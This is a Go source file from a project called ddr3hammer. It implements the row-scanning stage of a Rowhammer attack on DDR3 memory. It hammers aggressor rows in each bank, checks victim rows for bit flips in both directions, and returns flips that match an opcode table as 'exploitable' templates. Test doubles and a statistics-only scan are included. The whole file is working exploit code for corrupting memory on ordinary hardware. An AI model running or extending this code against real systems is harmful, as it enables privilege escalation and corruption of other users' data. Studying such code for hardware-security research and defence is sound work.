// This file is part of ddr3hammer.
//
// ddr3hammer is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// ddr3hammer is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with ddr3hammer.  If not, see <https://www.gnu.org/licenses/>.

package scan

import (
	"math/rand"

	"github.com/jetsetilly/ddr3hammer/ddrerr"
	"github.com/jetsetilly/ddr3hammer/internal/config"
	"github.com/jetsetilly/ddr3hammer/internal/dram"
	"github.com/jetsetilly/ddr3hammer/internal/hammer"
	"github.com/jetsetilly/ddr3hammer/internal/hugebuf"
	"github.com/jetsetilly/ddr3hammer/internal/opcode"
)

// Hammerer is the single method internal/scan needs from internal/hammer,
// injected so tests can simulate a flip without real row activations -
// mirroring the fake memory bus the cpu package's own tests are driven
// against.
type Hammerer interface {
	Hammer(a, b *byte, activations uint64)
}

type realHammerer struct{}

func (realHammerer) Hammer(a, b *byte, activations uint64) {
	hammer.Hammer(a, b, activations)
}

// DefaultHammerer drives real row activations via internal/hammer.
var DefaultHammerer Hammerer = realHammerer{}

// Template is a discovered exploitable flip: the offset of the flipped byte
// within the caller's buffer, and the opcode table entry it matched.
type Template struct {
	Addr uintptr
	Op   opcode.Entry
}

// BankRows builds the table of 16 virtual offsets, one per row index in
// [0, 16), all sharing bank's channel/rank/bank bits.
func BankRows(cfg dram.Config, bank uint16) [16]uintptr {
	var rows [16]uintptr
	for i := range rows {
		addr := dram.AddressForBank(cfg, bank, uint64(i))
		rows[i] = uintptr(dram.DRAMToPhysical(cfg, addr))
	}
	return rows
}

// fillRow writes value across both 4 KiB pages of the row at offset,
// starting past the per-page entropy padding on each page so the padding
// itself is never disturbed by a scan.
func fillRow(buf *hugebuf.Buffer, offset uintptr, value byte) {
	for page := uintptr(0); page < dram.RowSize; page += dram.PageSize {
		start := uint64(offset) + uint64(page) + hugebuf.EntropyPaddingSize
		for i := uint64(0); i < dram.PageSize-hugebuf.EntropyPaddingSize; i++ {
			*buf.At(start + i) = value
		}
	}
}

// scanRowForFlip walks the row at offset, past its entropy padding, looking
// for a byte that differs from base and matches opcode.Table in dir. It
// returns the first match.
func scanRowForFlip(buf *hugebuf.Buffer, offset uintptr, base byte, dir opcode.Direction) *Template {
	for page := uintptr(0); page < dram.RowSize; page += dram.PageSize {
		pageStart := uint64(offset) + uint64(page)
		for i := uint64(hugebuf.EntropyPaddingSize); i < dram.PageSize; i++ {
			addr := pageStart + i
			v := *buf.At(addr)
			if v == base {
				continue
			}
			if e, ok := opcode.Match(addr, dram.PageSize, v, dir); ok {
				return &Template{Addr: uintptr(addr), Op: e}
			}
		}
	}
	return nil
}

// ScanBank implements the bank scanner: for every triple of consecutive
// rows (agg1, vic, agg2) in bank, hammer both directions and check the
// victim row against opcode.Table. Returns the first Template found, or
// ddrerr.TemplateNotFound if none of the bank's twelve triples produced a
// matching flip.
func ScanBank(buf *hugebuf.Buffer, cfg dram.Config, bank uint16, hcfg config.HammerConfig, h Hammerer) (*Template, error) {
	rows := BankRows(cfg, bank)

	for i := 0; i < 12; i++ {
		agg1, vic, agg2 := rows[i], rows[i+1], rows[i+2]

		a1 := buf.At(uint64(agg1) + hugebuf.EntropyPaddingSize)
		a2 := buf.At(uint64(agg2) + hugebuf.EntropyPaddingSize)

		// 0->1 probe: aggressors high, victim low.
		fillRow(buf, agg1, 0xFF)
		fillRow(buf, agg2, 0xFF)
		fillRow(buf, vic, 0x00)
		for round := 0; round < hcfg.Rounds; round++ {
			h.Hammer(a1, a2, hcfg.Activations)
		}
		if tmpl := scanRowForFlip(buf, vic, 0x00, opcode.ZeroToOne); tmpl != nil {
			return tmpl, nil
		}

		// 1->0 probe: aggressors low, victim high.
		fillRow(buf, agg1, 0x00)
		fillRow(buf, agg2, 0x00)
		fillRow(buf, vic, 0xFF)
		for round := 0; round < hcfg.Rounds; round++ {
			h.Hammer(a1, a2, hcfg.Activations)
		}
		if tmpl := scanRowForFlip(buf, vic, 0xFF, opcode.OneToZero); tmpl != nil {
			return tmpl, nil
		}
	}

	return nil, ddrerr.Errorf(ddrerr.TemplateNotFound)
}

// ScanAllBanks iterates every bank reachable with cfg's function masks and
// returns the first Template found across all of them.
func ScanAllBanks(buf *hugebuf.Buffer, cfg dram.Config, hcfg config.HammerConfig, h Hammerer) (*Template, error) {
	numBanks := uint16(1) << len(cfg.FunctionMasks)
	for bank := uint16(0); bank < numBanks; bank++ {
		tmpl, err := ScanBank(buf, cfg, bank, hcfg, h)
		if err == nil {
			return tmpl, nil
		}
		if !ddrerr.Is(err, ddrerr.TemplateNotFound) {
			return nil, err
		}
	}
	return nil, ddrerr.Errorf(ddrerr.TemplateNotFound)
}

// ScanRandomPairs hammers nPairs random aggressor/victim/aggressor triples
// on consecutive rows of the same randomly chosen bank, counting how many
// victim bytes flip across all pairs. It resets the buffer to a clean 0xFF
// fill between pairs and is used for discovery and statistics rather than
// exploitation.
func ScanRandomPairs(buf *hugebuf.Buffer, cfg dram.Config, hcfg config.HammerConfig, h Hammerer) (uint64, error) {
	var flips uint64
	numBanks := uint16(1) << len(cfg.FunctionMasks)

	for pair := 0; pair < hcfg.RandomPairs; pair++ {
		bank := uint16(rand.Intn(int(numBanks)))
		row := uint64(rand.Intn(14))

		rows := BankRows(cfg, bank)
		agg1, vic, agg2 := rows[row], rows[row+1], rows[row+2]

		buf.Fill(0xFF)
		fillRow(buf, vic, 0x00)

		a1 := buf.At(uint64(agg1) + hugebuf.EntropyPaddingSize)
		a2 := buf.At(uint64(agg2) + hugebuf.EntropyPaddingSize)
		for round := 0; round < hcfg.Rounds; round++ {
			h.Hammer(a1, a2, hcfg.Activations)
		}

		for page := uintptr(0); page < dram.RowSize; page += dram.PageSize {
			pageStart := uint64(vic) + uint64(page)
			for i := uint64(hugebuf.EntropyPaddingSize); i < dram.PageSize; i++ {
				if *buf.At(pageStart+i) != 0x00 {
					flips++
				}
			}
		}
	}

	return flips, nil
}
